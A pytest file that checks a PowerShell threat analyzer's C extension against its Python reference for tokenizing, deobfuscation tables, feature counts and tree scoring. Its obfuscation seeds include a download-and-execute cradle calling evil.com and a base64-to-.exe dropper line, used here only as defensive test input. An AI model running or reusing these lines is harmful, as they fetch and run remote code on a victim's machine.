"""The C paths of the PowerShell analyzer against the pure-Python ones they stand in for: the
tokenizer (the same tokens on real scripts, obfuscated ones, random garbage and every character
class edge), the deobfuscator's token tables, the feature counts and the tree ensemble."""

import importlib
import itertools
import math
import random
from pathlib import Path

import pytest

from threatscope.native import native
from threatscope.powershell.obfuscate import FAMILIES, obfuscate

tk = importlib.import_module("threatscope.powershell.tokenize")  # the package exports a function
C = native()
pytestmark = pytest.mark.skipif(C is None, reason="C extension not built")
BENIGN = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "powershell" / "benign"


def same(text: str) -> None:
    ref = tk._tokens_fast(text, None)
    got = C.ps_tokens(text, tk.Token, tk._NATIVE_KINDS, False, None, None)
    assert got == ref, text[:200]
    assert C.ps_tokens(text, tk.Token, tk._NATIVE_KINDS, True, None, None) == [
        t for t in ref if t.kind != "comment"]


@pytest.mark.skipif(not BENIGN.exists(), reason="no /work/shared/data/powershell")
def test_benign_scripts():
    for path in sorted(BENIGN.glob("*.ps1")):
        same(path.read_text(encoding="utf-8", errors="replace"))


def test_obfuscated_scripts():
    rng = random.Random(5)
    seeds = ["Write-Host 'hi'; $x = 1..10 | % { $_ * 2 }",
             "(New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1') | iex",
             "$s = [Convert]::FromBase64String($b); [IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\", $s)",
             "function Get-Thing { param([string]$Name, [int[]]$N = @(1, 2)) \"x $Name\" }"]
    for _ in range(150):
        fams = rng.sample(FAMILIES, rng.randint(1, 3))
        text, _ = obfuscate(rng.choice(seeds), rng, families=fams, layers=rng.randint(1, 3))
        same(text)


ATOMS = list(" \t\f\v\xa0\ufeff\r\n`'\"\u2018\u2019\u201a\u201b\u201c\u201d\u201e$@#<>=+*/%!(){}[]"
             ";,|&:.?^_~-\u2013\u2014\u2015\\0123456789aAbBcdDeEfFgklLmMnprsStTxXz\u0130\u0131"
             "\u017f\u212a\u0663\x1c\x85\u2028\u3000\xe9") + [
    "0x", "1.5", "e+", "kb", "-f", "-join", "-bxor", "-isnot", "-cnotcontains", "[char]",
    "[a[b]]", "[ a ]", "$env:", "${", "@'\n", "'@", '@"\n', '"@', "<#", "#>", "`\n", "`\r\n",
    "2>&1", "::", "..", "$_", "$$", "$^", "-Command", "[int[]]", "[a.b[c,d]]  ]"]


def test_random_garbage():
    rng = random.Random(11)
    for _ in range(20_000):
        same("".join(rng.choice(ATOMS) for _ in range(rng.randint(0, 14))))


def test_every_character():
    # each code point where a rule looks at it (word, operator, variable, number, type), a few
    # hundred per text; every one up to U+3000, a sample of the rest
    cps = [cp for cp in [*range(0x3000), *range(0x3000, 0x110000, 31), 0x212A, 0xFEFF]
           if not 0xD800 <= cp < 0xE000]
    for k in range(0, len(cps), 256):
        same("\n".join(f"{ch} a{ch}b -{ch} -i{ch} ${ch} 1{ch} [{ch}] {ch}"
                        for ch in map(chr, cps[k:k + 256])))


def test_tokenize_uses_either_path(monkeypatch):
    src = "iex (\"a\"+'b') # c\n[char]0x41 -f $x"
    fast = tk.tokenize(src)
    monkeypatch.setenv("THREATSCOPE_NATIVE", "0")
    assert tk.tokenize(src) == fast
    assert tk.code_tokens(src) == [t for t in fast if t.kind != "comment"]


def test_token_tables():
    # the deobfuscator's bracket table and _fold's visit list: C and Python loops agree
    dob = importlib.import_module("threatscope.powershell.deobfuscate")
    rng = random.Random(3)
    texts = ["(a)[b]{c}$(d)@(e)@{f}", ")(][", "((((", "aB `x [Sy`stem.Text] (x) Word", ""]
    texts += ["".join(rng.choice(ATOMS) for _ in range(rng.randint(0, 40))) for _ in range(3000)]
    for text in texts:
        toks = tk._tokens_fast(text, None)
        n = len(toks)
        close = [n] * n
        stack: list[int] = []
        for j, t in enumerate(toks):
            if t.kind in dob._OPEN:
                stack.append(j)
            elif t.kind in dob._CLOSE and stack:
                close[stack.pop()] = j
        assert list(memoryview(C.ps_brackets(toks, dob._BRACKET_ROLES)).cast("i")) == close, text
        visit = [x for x, t in enumerate(toks) if t.kind == "lparen" or (
            t.kind in ("word", "type") and dob._FOLD_HINT.search(t.text))]
        assert C.ps_fold_visit(toks, dob._FOLD_ROLES) == visit, text


def scan_ref(data: bytes, views: tuple, runs: tuple) -> list[int]:
    # what ps_scan stands for, computed plainly: translate + count, and the runs one at a time
    out = []
    for table, delete, needles in views:
        s = data.translate(table, delete)
        out += [s.count(x, start) for x, start in needles]
    for flags, min_len in runs:
        lens = [len(list(g)) for on, g in itertools.groupby(flags[c] for c in data) if on]
        lens = [x for x in lens if x >= min_len]
        out += [len(lens), sum(lens), max(lens, default=0)]
    return out


def test_scan_features():
    # features.py's views and runs of the bytes, and its needles in the lower-cased text's UTF-8:
    # ps_scan and the plain counts agree (bytes.count semantics: non-overlapping, from start)
    feats = importlib.import_module("threatscope.powershell.features")
    edges = ["", "a", "A", "1", " ", "\n", "aBcDeF", "aBcDeFg", "AbCdEfG", " ABCDEFGHI", " ABCD",
             "1,2,3,4", ",1,2,3,4,", "1,2,3", "a`b`c", "a-b-c-d", "x    y", "\n    x", "${", "${x}",
             "abcdefghij" * 7, "A" * 60, "A" * 59 + "\n" + "B+/=" * 20, "xyz" * 100,
             "\t\r\n  \x0b\x0c"]
    rng = random.Random(6)
    alphabet = [*"aeiouAEIOU-$[](){}.,`'\"#%^;|&+=@~*<>! \t\r\n\x0b\x0cxyzB09+/\u0130\u2019\u017f",
                "aB", "Ab", "1,", " ABCD", "${", "\n  ", "x  ", "a-b"]
    texts = edges + ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
                     for _ in range(5000)]
    texts += ["".join(rng.choice(["aB", "1,", "a`", "a-", " ", "AB"])
                      for _ in range(rng.randint(0, 40))) for _ in range(2000)]
    for s in texts:
        b = s.encode("ascii", "replace")
        assert C.ps_scan(b, feats._VIEWS, feats._RUNS) == scan_ref(b, feats._VIEWS, feats._RUNS), s
    low_alphabet = [*"aeiou$[](.*&- \u0130\u0131\u017f\u212a\xe9\ud800", *feats._NEEDLES]
    for _ in range(3000):
        s = "".join(rng.choice(low_alphabet) for _ in range(rng.randint(0, 30)))
        got = C.ps_scan(s.encode("utf-8", "surrogatepass"), feats._LOW_VIEWS, ())
        assert got == [s.count(x) for x in feats._NEEDLES], s


def test_scan_any_views():
    # random tables, deletions, needles (overlapping ones, from any start) and runs; more pairs
    # of tuples than ps_scan keeps plans for (small enough for its automaton's 32768 cells)
    rng = random.Random(7)
    for _ in range(300):
        views, runs = [], []
        for _ in range(rng.randint(0, 3)):
            table = bytes(rng.choice(b"abc") for _ in range(256))
            if rng.random() < 0.3:  # deleting: single bytes from 0 only
                needles = tuple((bytes([rng.choice(b"abc")]), 0) for _ in range(rng.randint(0, 3)))
                views.append((table, bytes(rng.sample(range(256), rng.randint(0, 200))), needles))
            else:
                needles = tuple((bytes(rng.choice(b"abc") for _ in range(rng.randint(1, 4))),
                                 rng.choice([0, 0, 1, 2, 7])) for _ in range(rng.randint(0, 4)))
                views.append((table, b"", needles))
        for _ in range(rng.randint(0, 8)):
            runs.append((bytes(rng.random() < 0.5 for _ in range(256)), rng.randint(0, 4)))
        views, runs = tuple(views), tuple(runs)
        for _ in range(20):
            data = bytes(rng.randrange(256) for _ in range(rng.randint(0, 50)))
            assert C.ps_scan(data, views, runs) == scan_ref(data, views, runs)


def test_scan_checks_its_arguments():
    table = bytes(256)
    with pytest.raises(ValueError, match="deleting"):
        C.ps_scan(b"x", ((table, b"x", ((b"ab", 0),)),), ())
    with pytest.raises(ValueError, match="deleting"):
        C.ps_scan(b"x", ((table, b"x", ((b"a", 1),)),), ())
    with pytest.raises(ValueError, match="256-byte"):
        C.ps_scan(b"x", ((b"abc", b"", ()),), ())
    with pytest.raises(ValueError, match="256-byte"):
        C.ps_scan(b"x", (), ((b"abc", 1),))
    with pytest.raises(ValueError, match="non-empty"):
        C.ps_scan(b"x", ((table, b"", ((b"", 0),)),), ())
    with pytest.raises(ValueError, match="non-empty"):
        C.ps_scan(b"x", ((table, b"", ((b"a", 0),) * 257),), ())
    # view k reads bit k of each byte: its automaton's 5 states go with every other's, 5^8 in all
    bits = tuple((bytes(b"ab"[c >> k & 1] for c in range(256)), b"", ((b"abab", 0),))
                 for k in range(8))
    with pytest.raises(ValueError, match="too many needles"):
        C.ps_scan(b"x", bits, ())
    assert C.ps_scan(b"\x00\xff" * 3, bits[:4], ()) == [1] * 4
    with pytest.raises(TypeError):
        C.ps_scan(b"x", ((bytearray(table), b"", ()),), ())  # a plan is kept: immutable only
    with pytest.raises(TypeError):
        C.ps_scan(b"x", ([table, b"", ()],), ())


def test_features_either_path(monkeypatch):
    feats = importlib.import_module("threatscope.powershell.features")
    rng = random.Random(12)
    texts = [obfuscate("Write-Host 'hi'; Get-ChildItem C:\\ | % { $_.Name }", rng,
                       families=[rng.choice(FAMILIES)])[0] for _ in range(60)]
    if BENIGN.exists():
        texts += [p.read_text(encoding="utf-8", errors="replace") for p in sorted(BENIGN.glob("*.ps1"))[:100]]
    fast = [feats.extract(t) for t in texts]
    monkeypatch.setenv("THREATSCOPE_NATIVE", "0")
    assert [feats.extract(t) for t in texts] == fast


def test_feature_counts_land_on_their_names(monkeypatch):
    # counted by hand, different from each other: a count unpacked into the wrong name shows
    feats = importlib.import_module("threatscope.powershell.features")
    text = "Get Item x-y-z 1,2,3,4,5,6,7 aBcDeF a1 b2 c3 d4 ${a}  |"
    k = 1000 / len(text)
    alpha = 21  # letters; 5 upper
    want = {"cmdlet_per_k": math.log1p(k),  # x-y (y-z overlaps it)
            "numlist_per_k": math.log1p(6 * k),  # d,d from 0: 3, from 1: 3
            "digit_words": math.log1p(4 * k),  # a1 b2 c3 d4
            "rand_case_words": math.log1p(2 * k),  # lUlU and UlUl in aBcDeF
            "case_switch_rate": 7 / alpha,  # lU 3, Ul 4
            "sh_upper": 5 / alpha, "upper_words": 0.0,
            "word_len_mean": 13 / 3, "log_longest_word": math.log1p(6),  # Get Item aBcDeF
            "multi_space_per_k": math.log1p(k), "bracevar_per_k": math.log1p(k),
            "c_pipe": math.log1p(k), "c_dash": math.log1p(2 * k), "c_comma": math.log1p(6 * k)}
    for use_c in ("1", "0"):
        monkeypatch.setenv("THREATSCOPE_NATIVE", use_c)
        f = feats.extract(text)
        assert {name: f[name] for name in want} == want, use_c


def test_tree_sum():
    # the ensemble in C adds the same leaves in the same order: the same double
    from threatscope.powershell.classify import default_model

    m = default_model()
    thresholds = sorted({t for tree in m.trees for t in tree[1]})
    rng = random.Random(13)
    for _ in range(5000):
        row = [rng.choice([0.0, rng.choice(thresholds), rng.gauss(0, 3), float("nan")])
               for _ in m.names]
        assert C.gbdt_sum(row, *m._packed) == m._gbdt(row)
